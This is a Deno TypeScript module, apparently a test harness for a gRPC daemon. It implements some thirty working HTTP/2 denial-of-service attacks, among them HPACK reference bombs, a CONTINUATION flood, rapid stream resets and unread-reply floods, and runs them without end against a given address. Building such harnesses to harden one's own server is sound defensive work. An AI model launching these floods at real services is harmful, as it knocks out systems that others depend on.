/**
 * Peers of a daemon that mean it harm, as a process of their own. None has a token.
 *
 * Run as a program it attacks until it is killed: `http2_attack.ts ADDRESS ATTACK CONNECTIONS
 * [CA_FILE]`. A connection that is ended is made again.
 *
 * @module
 */
import * as h2 from "./http2_frames.ts";

const CHECK = "/grpc.health.v1.Health/Check";
const REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/** A setting: SETTINGS_MAX_CONCURRENT_STREAMS, 100. */
const MAX_STREAMS = [0, 3, 0, 0, 0, 100];
const LARGEST_WINDOW = 2 ** 31 - 1;

/** Where an attack sends what. */
interface Peer {
  /** Sends bytes, and resolves when the daemon's side has taken them. */
  send(...parts: Uint8Array[]): Promise<void>;
}

/** A client's stream ids. */
function* streamIds(): Generator<number, never> {
  for (let id = 1;; id += 2) yield id;
}

/** Sends the same frames again and again, many at a time. */
function flood(...frames: Uint8Array[]): (peer: Peer) => Promise<void> {
  const all = h2.concat(...Array.from({ length: 500 }, () => frames).flat());
  return async ({ send }) => {
    for (;;) await send(all);
  };
}

/** Opens streams without an end: each time the fields, and more of them. */
function streams(
  make: (streamId: number) => Uint8Array[],
  count = Infinity,
): (peer: Peer) => Promise<void> {
  return async ({ send }) => {
    for (const id of streamIds()) {
      if (id > count * 2) break;
      await send(...make(id));
    }
    // What is sent is held as long as the daemon allows.
    await new Promise(() => {});
  };
}

const call = (id: number, path = CHECK, flags = 0) =>
  h2.headerBlock(id, h2.callFields(path), { flags });
const message = (bytes: number[]) => [0, ...h2.uint32(bytes.length), ...bytes];

/** Opens a stream without windows in the way; many questions for it whose answers are large. */
async function ask({ send }: Peer): Promise<Uint8Array> {
  await send(h2.frame(h2.SETTINGS, [0, 4, ...h2.uint32(LARGEST_WINDOW)]));
  await send(h2.frame(h2.WINDOW_UPDATE, h2.uint32(LARGEST_WINDOW - 65_535)));
  await send(call(1, REFLECT));
  const symbol = "necoperf.NecoPerf";
  const asked = message([0x22, symbol.length, ...new TextEncoder().encode(symbol)]);
  return h2.frame(h2.DATA, Array(500).fill(asked).flat(), { streamId: 1 });
}

/** By their names. */
export const ATTACKS: Record<string, (peer: Peer) => Promise<void>> = {
  /** A large field in the table, and header blocks of references to it. */
  "references to a large field": async ({ send }) => {
    await send(h2.headerBlock(1, [...h2.callFields(CHECK), ...h2.indexing("a", "x".repeat(3900))]));
    await streams((id) => [
      h2.headerBlock(
        id + 2,
        h2.concat(h2.callFields(CHECK), new Uint8Array(31_000).fill(0x80 | 62)),
      ),
    ])({ send });
  },
  /** As many references as a header list may have fields; more than its size. */
  "few references to a large field": async ({ send }) => {
    await send(h2.headerBlock(1, [...h2.callFields(CHECK), ...h2.indexing("a", "x".repeat(3900))]));
    await streams((id) => [
      h2.headerBlock(id + 2, h2.concat(h2.callFields(CHECK), new Uint8Array(90).fill(0x80 | 62))),
    ])({ send });
  },
  "references to the static table": streams((id) => [
    h2.headerBlock(id, h2.concat(h2.callFields(CHECK), new Uint8Array(31_000).fill(0x80 | 16))),
  ]),
  /** "0" is five zeros: a byte is 1.6 of them. */
  "Huffman-coded strings": streams((id) => [
    h2.headerBlock(id, [
      ...[...h2.callFields(CHECK), 0, ...h2.string("a")],
      ...[...h2.integer(0x80, 7, 30_000), ...new Uint8Array(30_000)],
    ]),
  ]),
  "header lists within the limit": streams((id) => [
    h2.headerBlock(id, [...h2.callFields(CHECK), ...h2.literal("a", "x".repeat(31_000))]),
  ], 100),
  "messages that never end": streams((id) => [
    call(id),
    ...[[0, ...h2.uint32(65_000)], ...Array(4).fill(new Uint8Array(16_000))]
      .map((payload) => h2.frame(h2.DATA, payload, { streamId: id })),
  ], 100),
  "header blocks as trailers": async ({ send }) => {
    await send(call(1));
    const trailers = h2.headerBlock(1, h2.literal("a", "x".repeat(31_000)));
    for (;;) await send(trailers);
  },
  "a header block that never ends": async ({ send }) => {
    await send(h2.frame(h2.HEADERS, h2.callFields(CHECK), { streamId: 1 }));
    await flood(h2.frame(h2.CONTINUATION, [], { streamId: 1 }))({ send });
  },
  "streams that are reset": async ({ send }) => {
    for (const id of streamIds()) {
      await send(call(id), h2.frame(h2.RST_STREAM, h2.uint32(8), { streamId: id }));
    }
  },
  "more streams than allowed": streams((id) => [call(id)]),
  "pings that nobody reads the answers of": flood(h2.frame(h2.PING, new Uint8Array(8))),
  "settings that nobody reads the answers of": flood(h2.frame(h2.SETTINGS)),
  "settings of many values": flood(h2.frame(h2.SETTINGS, Array(2700).fill(MAX_STREAMS).flat())),
  "window updates": flood(h2.frame(h2.WINDOW_UPDATE, h2.uint32(1))),
  "priorities": flood(h2.frame(h2.PRIORITY, [0, 0, 0, 0, 1], { streamId: 1 })),
  "frames of no known type": flood(h2.frame(99)),
  "empty data": async ({ send }) => {
    await send(call(1));
    await flood(h2.frame(h2.DATA, [], { streamId: 1 }))({ send });
  },
  "data of one byte": async ({ send }) => {
    await send(call(1), h2.frame(h2.DATA, [0, ...h2.uint32(65_000)], { streamId: 1 }));
    await flood(h2.frame(h2.DATA, [0], { streamId: 1 }))({ send });
  },
  "questions that nobody reads the answers of": async ({ send }) => {
    const many = await ask({ send });
    for (;;) await send(many);
  },
  /** The daemon reads nothing more then. */
  "data after questions that nobody reads the answers of": async ({ send }) => {
    await send(await ask({ send }));
    await new Promise((resolve) => setTimeout(resolve, 1000));
    await flood(h2.frame(h2.DATA, new Uint8Array(16_000), { streamId: 1 }))({ send });
  },
  /** 0 and 4096, again and again, in one header block. */
  "table sizes that change": streams((id) => [
    h2.headerBlock(
      id,
      h2.concat(...Array(7000).fill([0x20, ...h2.integer(0x20, 5, 4096)]), h2.callFields(CHECK)),
    ),
  ]),
  "fields that push others out of the table": streams((id) => [
    h2.headerBlock(id, [
      ...h2.callFields(CHECK),
      ...Array.from({ length: 8 }, (_, n) => h2.indexing(`a${id}-${n}`, "x".repeat(3800))).flat(),
    ]),
  ]),
  "fields without a value": streams((id) => [
    h2.headerBlock(id, h2.concat(h2.callFields(CHECK), ...Array(7000).fill(h2.literal("a", "")))),
  ]),
  "trailers that refer to a large field": async ({ send }) => {
    await send(h2.headerBlock(1, [...h2.callFields(CHECK), ...h2.indexing("a", "x".repeat(3900))]));
    for (const id of streamIds()) {
      const trailers = new Uint8Array(31_000).fill(0x80 | 62);
      await send(call(id + 2), h2.headerBlock(id + 2, trailers, { flags: h2.END_STREAM }));
    }
  },
  "a header block of frames of one byte": streams((id) => [
    h2.headerBlock(id, h2.callFields(CHECK), { frameBytes: 1 }),
  ]),
  "data of padding only": async ({ send }) => {
    await send(call(1));
    const padding = [255, ...new Uint8Array(255)];
    await flood(h2.frame(h2.DATA, padding, { flags: h2.PADDED, streamId: 1 }))({ send });
  },
  "data of calls that are over": async ({ send }) => {
    await send(call(1), h2.frame(h2.RST_STREAM, h2.uint32(8), { streamId: 1 }));
    await flood(h2.frame(h2.DATA, new Uint8Array(16_000), { streamId: 1 }))({ send });
  },
  "long frames of no known type": flood(h2.frame(99, new Uint8Array(16_000))),
  "long farewells": flood(h2.frame(h2.GOAWAY, new Uint8Array(16_000))),
  "farewells": flood(h2.frame(h2.GOAWAY, new Uint8Array(8))),
  "calls without a message": streams((id) => [call(id, CHECK, h2.END_STREAM)]),
  "long paths that nobody reads the answers of": streams((id) => [
    call(id, "/" + "\u007f".repeat(30_000), h2.END_STREAM),
  ]),
  "calls": async ({ send }) => {
    const end = { flags: h2.END_STREAM };
    for (const id of streamIds()) {
      await send(call(id), h2.frame(h2.DATA, message([]), { ...end, streamId: id }));
    }
  },
};

/** Attackers at work. Disposing of them ends them. */
export function startAttack(
  address: string,
  attack: string,
  { connections = 10, caFile = "" } = {},
): AsyncDisposable {
  const process = new Deno.Command(Deno.execPath(), {
    args: [
      ...["run", "--allow-all", "--frozen", "--quiet", import.meta.filename!],
      ...[address, attack, `${connections}`, caFile],
    ],
    stdin: "null",
  }).spawn();
  return {
    async [Symbol.asyncDispose]() {
      process.kill("SIGKILL");
      await process.status;
    },
  };
}

async function connect(address: string, caFile: string): Promise<Deno.Conn> {
  const [hostname, port] = address.split(":");
  const to = { hostname, port: Number(port) };
  if (caFile === "") return await Deno.connect(to);
  return await Deno.connectTls({
    ...to,
    hostname: "localhost",
    alpnProtocols: ["h2"],
    caCerts: [await Deno.readTextFile(caFile)],
  });
}

/** Attacks on one connection until that is ended. */
async function attackOnce(address: string, attack: string, caFile: string): Promise<void> {
  using connection = await connect(address, caFile);
  const send = async (...parts: Uint8Array[]) => {
    const bytes = h2.concat(...parts);
    for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
  };
  // Ends with the connection, as long as what comes is read.
  const read = async () => {
    const buffer = new Uint8Array(1 << 16);
    while (await connection.read(buffer) !== null);
  };
  await send(h2.PREFACE, h2.frame(h2.SETTINGS), h2.frame(h2.SETTINGS, [], { flags: h2.ACK }));
  const attacking = ATTACKS[attack]({ send });
  await (attack.includes("nobody reads") ? attacking : Promise.race([attacking, read()]));
}

if (import.meta.main) {
  const [address, attack, connections, caFile] = Deno.args;
  await Promise.all(
    Array.from({ length: Number(connections) }, async () => {
      for (;;) await attackOnce(address, attack, caFile).catch(() => {});
    }),
  );
}
